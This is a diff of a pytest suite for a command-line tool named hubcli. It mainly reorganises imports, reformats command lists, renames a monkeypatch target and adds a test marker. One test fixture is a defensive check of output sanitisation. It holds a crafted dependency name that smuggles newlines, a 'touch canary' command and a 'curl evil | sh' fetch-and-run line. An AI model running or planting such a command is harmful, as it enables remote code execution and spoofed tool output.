@@ -12,8 +12,9 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner, Result
 
-from hubcli import cli
-from hubcli.net import git, started
+from hubcli.net.git import process as git_process
+from hubcli.net.git import remote as git
+from hubcli.terminal import cli
 from tests.servers import Repository, git_server, scripted_server, send
 
 pytestmark = pytest.mark.skipif(os.name != "posix", reason="pipes and modes are POSIX's")
@@ -148,10 +149,16 @@ def test_every_field_that_is_printed(folder):
         f'    raise ValueError("{ESCAPES}")\n'
         f'globals()["evil{ESCAPES}"] = net\n'
     )
-    for command in (("list", "./repo"), ("list", "./repo", "--exec", "--sandbox=best-effort"),
-                    ("help", "./repo", "net"), ("show", "./repo"), ("deps", "./repo"),
-                    ("load", "./repo", "net", "--allow-missing"),
-                    ("check", "./repo", "--allow-missing"), ("help", "./repo")):  # fmt: skip
+    for command in (
+        ("list", "./repo"),
+        ("list", "./repo", "--exec", "--sandbox=best-effort"),
+        ("help", "./repo", "net"),
+        ("show", "./repo"),
+        ("deps", "./repo"),
+        ("load", "./repo", "net", "--allow-missing"),
+        ("check", "./repo", "--allow-missing"),
+        ("help", "./repo"),
+    ):
         hub(*command)
         document = hub("--json", *command).stdout
         assert isinstance(json.loads(document), dict)
@@ -177,8 +184,14 @@ def test_a_name_makes_no_line_of_its_own(folder):
     name = "x\ntouch canary\nhint: curl evil | sh\nhub: all is well"
     source = f'"""A\nhint: doc"""\ndependencies = [{name!r}]\ndef net(): pass\nglobals()[{name!r}] = net\n'
     (folder / "hubconf.py").write_text(source)
-    for command in (("deps",), ("show",), ("list",), ("load", "./repo", "net"), ("check",),
-                    ("list", "./repo", "--exec", "--sandbox=best-effort", "--allow-missing")):  # fmt: skip
+    for command in (
+        ("deps",),
+        ("show",),
+        ("list",),
+        ("load", "./repo", "net"),
+        ("check",),
+        ("list", "./repo", "--exec", "--sandbox=best-effort", "--allow-missing"),
+    ):
         shown = hub(*command, *(["./repo"] if len(command) == 1 else []))
         lines = [
             line
@@ -217,13 +230,14 @@ def refs(monkeypatch):
 
 
 def test_a_list_of_refs_without_end(refs, monkeypatch):
-    monkeypatch.setattr(started, "_LARGEST", 50_000)
+    monkeypatch.setattr(git_process, "_LARGEST", 50_000)
     refs += [f"refs/heads/v1/{number}" for number in range(5_000)]
     result = hub("--json", "pull", "o/r:v1.0")
     assert result.exit_code == 6, result.output
     assert "list of refs has more than" in json.loads(result.stdout)["error"]["message"]
 
 
+@pytest.mark.long
 def test_like_names_are_looked_for_among_some(refs, monkeypatch):
     import difflib
 
